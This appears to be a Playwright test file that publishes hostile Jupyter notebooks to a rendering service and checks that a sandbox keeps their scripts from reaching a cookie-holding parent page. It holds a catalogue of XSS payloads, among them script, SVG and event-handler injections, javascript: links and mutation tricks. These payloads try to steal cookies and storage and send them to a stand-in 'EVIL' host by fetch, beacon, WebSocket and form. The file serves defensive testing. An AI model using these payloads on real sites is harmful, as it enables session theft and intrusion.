"""Hostile notebooks in a real browser: on their own address, and in a frame of a page that holds a cookie."""

from __future__ import annotations

import base64
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from mlabs_ext.service.render import STATIC

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(
        not (STATIC / "render").is_dir(), reason="the UI is not built: python ui/build.py web"
    ),
]
COOKIE = "victim=secret"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
# What every script tries: to get out, to read, to send, to go elsewhere, to open windows, to ask.
ATTACK = """
try { parent.postMessage({stolen: 'ran'}, '*') } catch (e) {}
try { parent.document.body.dataset.owned = 1 } catch (e) {}
try { top.document.title = 'owned' } catch (e) {}
try { if (document.cookie) parent.postMessage({stolen: document.cookie}, '*') } catch (e) {}
try { if (localStorage.length >= 0) parent.postMessage({stolen: 'storage'}, '*') } catch (e) {}
try { fetch('EVIL/fetch', {credentials: 'include'}).catch(() => 0) } catch (e) {}
try { new Image().src = 'EVIL/image' } catch (e) {}
try { navigator.sendBeacon('EVIL/beacon') } catch (e) {}
try { new WebSocket('ws://EVILHOST/socket') } catch (e) {}
try { window.open('EVIL/popup') } catch (e) {}
try { if (top !== self) top.location = 'EVIL/top' } catch (e) {}
try { alert(1) } catch (e) {}
try { document.body.insertAdjacentHTML('beforeend', '<form action="EVIL/form" id=evilform></form>'); evilform.submit() } catch (e) {}
try { document.body.insertAdjacentHTML('beforeend', '<iframe src="EVIL/frame"></iframe>') } catch (e) {}
""".replace("\n", " ")  # noqa: E501


@dataclass
class Evil:
    """A site that counts what reaches it, and serves the page that embeds."""

    url: str
    seen: list[str] = field(default_factory=list)
    pages: dict[str, str] = field(default_factory=dict)


@pytest.fixture
def evil() -> Iterator[Evil]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            page = state.pages.get(self.path)
            if page is None and self.path != "/favicon.ico":
                state.seen.append(f"{self.path} {self.headers.get('Cookie', '')}")
            self.send_response(200 if page else 204)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write((page or "").encode())

        do_POST = do_GET

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    state = Evil(f"http://127.0.0.1:{server.server_port}")
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield state
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    made = browser.new_context()
    yield made
    made.close()


def output(**data):
    return {"output_type": "display_data", "data": data, "metadata": {}}


def html(text):
    return output(**{"text/html": text})


def notebook(*outputs, markdown="", **metadata):
    cells = [
        {"cell_type": "markdown", "id": "m", "metadata": {}, "source": markdown},
        {
            "cell_type": "code",
            "id": "c",
            "metadata": {},
            "source": "x",
            "outputs": list(outputs),
            "execution_count": 1,
        },
        {"cell_type": "markdown", "id": "end", "metadata": {}, "source": "THE END"},
    ]
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}


SCRIPT = f"<script>{ATTACK}</script>"
HANDLER = f'<img src=x onerror="{ATTACK}"><svg onload="{ATTACK}"></svg><p onclick="{ATTACK}">x</p>'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{ATTACK}">{SCRIPT}</svg>'
SVG_URL = f"data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}"
WRITTEN = SCRIPT.replace("'", "&quot;").replace("</", "<\\/")
STATE = {"version_major": 2, "version_minor": 0, "state": {"w": {"model_name": f"</script>{SCRIPT}"}}}
WIDGET = output(**{"application/vnd.jupyter.widget-view+json": {"model_id": "w"}})


def picture(data=PNG, **metadata):
    return {"output_type": "display_data", "data": {"image/png": data}, "metadata": {"image/png": metadata}}


# Scripts may run in these: inside the sandbox, where they reach nothing.
RUNNING = {
    "script in HTML": notebook(html(SCRIPT)),
    "handlers in HTML": notebook(html(HANDLER)),
    "JavaScript": notebook(output(**{"application/javascript": ATTACK})),
    "frames in HTML": notebook(html(f'<iframe srcdoc="{SCRIPT}"></iframe>' + HANDLER)),
    "detached button": notebook(
        html(
            f'<form id=f action="EVIL"></form><button form=f id=b></button><script>b.click()</script>{SCRIPT}'
        )
    ),
    "clobbered document": notebook(
        html(f"<img name=querySelectorAll><form name=body></form><form id=main name=head></form>{SCRIPT}")
    ),
    "broken out of its place": notebook(html(f"</div></section></main></body></html>{SCRIPT}")),
    "document.write": notebook(html(f"<script>document.write('{WRITTEN}')</script>")),
    "links": notebook(
        html(
            f'<a id=l target=_top href="EVIL/link">x</a><script>if (top !== self) l.click()</script>{SCRIPT}'
        )
    ),
    "refresh": notebook(html(f'<meta http-equiv=refresh content="0;url=EVIL/refresh">{SCRIPT}')),
    "base": notebook(html(f'<base href="EVIL/"><script src="x.js"></script>{SCRIPT}')),
}
# No script may run in these at all.
INERT = {
    "script in Markdown": notebook(markdown=SCRIPT),
    "handlers in Markdown": notebook(markdown=HANDLER),
    "drawing in Markdown": notebook(markdown=SVG + f'<svg><use href="data:image/svg+xml,{SVG}#x"/></svg>'),
    "javascript link": notebook(markdown=f'[x](javascript:{ATTACK}) <a href="jav&#97;script:{ATTACK}">y</a>'),
    "srcdoc in Markdown": notebook(markdown=f'<iframe srcdoc="{SCRIPT}"></iframe>'),
    "SVG": notebook(output(**{"image/svg+xml": SVG})),
    "picture's size": notebook(picture(width=f'1 onload="{ATTACK}"', height=f'">{SCRIPT}')),
    "picture's data": notebook(picture(f'{PNG}" onload="{ATTACK}')),
    "picture's alt": notebook(picture(alt=f'">{SCRIPT}')),
    "attachment": notebook(markdown=f'![x](attachment:a) ![y]({SVG_URL}) <img src="{SVG_URL}">'),
    "diagram": notebook(
        output(**{"text/vnd.mermaid": f"graph TD\n{HANDLER}"}), markdown=f"```mermaid\n{HANDLER}\n```"
    ),
    "LaTeX": notebook(output(**{"text/latex": rf"$\href{{javascript:{ATTACK}}}{{x}}\unicode{{{SCRIPT}}}$"})),
    "formula": notebook(markdown=rf"$\text{{{SCRIPT}}}$ $$\htmlData{{x={ATTACK}}}{{y}}$$"),
    "widget state": notebook(WIDGET, widgets={"application/vnd.jupyter.widget-state+json": STATE}),
    "error": notebook(
        {"output_type": "error", "ename": SCRIPT, "evalue": HANDLER}
        | {"traceback": [f"\x1b[31m{SCRIPT}\x1b[38;5;1m{HANDLER}"]}
    ),
    "stream": notebook({"output_type": "stream", "name": "stdout", "text": f"\x1b[1m{SCRIPT}"}),
    "title and kernel": notebook(
        markdown=f"# </title>{SCRIPT}",
        kernelspec={"name": SCRIPT, "display_name": HANDLER, "language": f'">{SCRIPT}'},
    ),
    "mutation": notebook(
        markdown=f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{HANDLER}">'
    ),
    "vdom": notebook(output(**{"application/vdom.v1+json": {"tagName": "script", "children": ATTACK}})),
    "JSON": notebook(output(**{"application/json": {SCRIPT: HANDLER}})),
}


def armed(book: dict, evil: Evil) -> dict:
    text = json.dumps(book).replace("EVILHOST", evil.url.removeprefix("http://")).replace("EVIL", evil.url)
    return json.loads(text)


def embed(context: BrowserContext, evil: Evil, address: str) -> Page:
    """A page of another origin, with a cookie and something to lose, that shows the document in a frame."""
    evil.pages["/page"] = f"""<!doctype html><title>safe</title><p id=p>intact</p>
        <iframe id=f sandbox="allow-scripts" src="{address}" style="width:900px;height:300px"></iframe>
        <script>document.cookie = "{COOKIE}"; window.told = []; window.heights = [];
        addEventListener("message", e =>
            e.data.context === "iframe.resize" ? heights.push(e.data.height) : told.push(e.data));
        </script>"""
    page = context.new_page()
    page.goto(f"{evil.url}/page")
    settle(page.frames[1])
    return page


def settle(frame) -> None:
    frame.wait_for_selector("text=THE END", timeout=10_000)
    frame.wait_for_timeout(400)


def ran(frame) -> bool:
    return frame.evaluate("() => !!document.getElementById('evilform')")


@pytest.mark.parametrize("books", [RUNNING, INERT], ids=["running", "inert"])
def test_hostile_notebooks_reach_nothing(site, evil, browser, subtests, books):
    for kind, book in books.items():
        context = browser.new_context()
        with subtests.test(kind):
            check(site, evil, context, armed(book, evil), books is INERT)
        context.close()
        evil.seen.clear()


def check(site, evil, context, book, inert) -> None:
    lab = site.publish("ada", notebook=book)
    address = f"{site.url}render/@ada/{lab['name']}/v/1"
    session = site.service.web.settings["hub_auth"].cookie_name
    context.add_cookies([{"name": session, "value": "victim", "url": site.url}])

    page = embed(context, evil, address)
    document = page.frames[1]
    assert page.title() == "safe"
    assert page.inner_text("#p") == "intact"
    assert page.evaluate("() => document.body.dataset.owned") is None
    told = page.evaluate("() => told")
    assert all(message == {"stolen": "ran"} for message in told)
    assert document.evaluate("() => self.origin") == "null"
    assert len(page.evaluate("() => heights")) >= 1

    direct = context.new_page()
    answer = direct.goto(address)
    settle(direct.main_frame)
    assert direct.evaluate("() => self.origin") == "null"
    assert "sandbox allow-scripts" in answer.headers["content-security-policy"]
    if inert:
        assert told == []
        assert not ran(document)
        assert not ran(direct.main_frame)
    assert len(context.pages) == 2
    assert evil.seen == []


def shown(site, context, book, query="", **options) -> Page:
    lab = site.publish("ada", notebook=book)
    page = context.new_page()
    if options:
        page.set_viewport_size(options)
    page.goto(f"{site.url}render/@ada/{lab['name']}/v/1{query}")
    settle(page.main_frame)
    return page


def test_one_output_that_fails_leaves_the_others_alone(site, context):
    outputs = [
        html("<script>throw new Error('first')</script>"),
        output(**{"application/javascript": "this is no JavaScript"}),
        output(**{"application/vnd.plotly.v1+json": {"data": 3}}),
        html("</div></div><table><p id=later></p><script>later.textContent = 'LATER'</script>"),
        output(**{"application/javascript": "element.textContent = 'LAST'"}),
    ]
    page = shown(site, context, notebook(*outputs))
    assert page.inner_text("#later") == "LATER"
    page.wait_for_selector("text=LAST")
    assert page.locator(".cell").count() == 3


def test_an_endless_script_does_not_stop_the_page_around(site, evil, context):
    lab = site.publish(
        "ada", notebook=notebook(html("<script>setTimeout(() => { for (;;); }, 300)</script>"))
    )
    page = embed(context, evil, f"{site.url}render/@ada/{lab['name']}/v/1")
    page.wait_for_timeout(500)
    assert page.evaluate("() => 1 + 1") == 2
    page.evaluate("() => document.getElementById('f').remove()")


def test_charts_are_drawn_when_they_come_into_view(site, context):
    figure = {"data": [{"type": "bar", "y": [1, 2]}], "layout": {"title": {"text": "BARS"}}}
    vega = {"mark": "bar", "data": {"values": [{"a": 1}]}, "encoding": {"x": {"field": "a"}}}
    book = notebook(
        output(**{"application/vnd.plotly.v1+json": figure}), markdown="\n\n".join(["line"] * 200)
    )
    book["cells"].append({"cell_type": "code", "id": "v", "metadata": {}, "source": "", "execution_count": 1,
        "outputs": [output(**{"application/vnd.vegalite.v5+json": vega})]})  # fmt: skip
    loaded: list[str] = []
    context.on("request", lambda request: loaded.append(request.url))
    page = shown(site, context, book)
    assert not [url for url in loaded if "plotly" in url or "vega" in url]
    page.locator("#cell-c").scroll_into_view_if_needed()
    page.wait_for_selector("#cell-c .main-svg")
    page.wait_for_selector("#cell-v svg.marks")


def test_code_can_be_copied(site, context):
    page = shown(site, context, notebook())
    page.locator(".copyable").first.hover()
    page.click(".copy")
    page.wait_for_function("() => /Copied|Selected/.test(document.querySelector('.copy').textContent)")


def test_links(site, evil, context):
    book = notebook(markdown="[in](#THE-END) [out](https://example.org/x)\n\n# THE END")
    lab = site.publish("ada", notebook=book)
    page = embed(context, evil, f"{site.url}render/@ada/{lab['name']}/v/1")
    frame = page.frames[1]
    frame.click("text=out")
    assert frame.input_value(".leads input") == "https://example.org/x"
    frame.click("text=in")
    assert frame.evaluate("() => document.activeElement.id") == "THE-END"


def test_the_frame_grows_with_its_content(site, evil, context):
    folded = notebook(markdown="<details><summary>MORE</summary>" + "<br>" * 100 + "</details>")
    lab = site.publish("ada", notebook=folded)
    page = embed(context, evil, f"{site.url}render/@ada/{lab['name']}/v/1")
    before = page.evaluate("() => heights.at(-1)")
    page.frames[1].click("text=MORE")
    page.wait_for_function("before => heights.at(-1) > before + 1000", arg=before)
    page.frames[1].click("text=MORE")
    page.wait_for_function("before => heights.at(-1) === before", arg=before)


def test_what_stays_away_is_said(site, context):
    page = shown(site, context, notebook(html('<script src="https://cdn.example/x.js"></script>')))
    assert "cdn.example" in page.inner_text(".blocked")


def test_static_content_needs_no_script(site, browser):
    context = browser.new_context(java_script_enabled=False)
    try:
        book = notebook(
            html("<table class=dataframe><tr><td>CELL</td></tr></table>"), output(**{"image/png": PNG})
        )
        lab = site.publish("ada", notebook=book)
        page = context.new_page()
        page.goto(f"{site.url}render/@ada/{lab['name']}/v/1")
        assert page.locator("td").inner_text() == "CELL"
        assert page.locator("img").count() == 1
    finally:
        context.close()


@pytest.mark.parametrize("width", [390, 1280])
def test_nothing_is_wider_than_the_window(site, context, width):
    wide = "x" * 5000
    table = "<table class=dataframe><tr>" + "<td>wide cell</td>" * 60 + "</tr></table>"
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": wide},
        html(table),
        output(**{"text/plain": wide}),
    ]
    page = shown(
        site, context, notebook(*outputs, markdown=f"$${'x+' * 500}y$$\n\n`{wide}`"), width=width, height=800
    )
    assert page.evaluate("() => document.documentElement.scrollWidth") <= width


def test_a_table_of_50_000_rows(site, context):
    table = "<table class=dataframe>" + "<tr><td>1</td><td>two</td></tr>" * 50_000 + "</table>"
    page = shown(site, context, notebook(html(table)))
    assert page.locator("tr").count() == 50_000
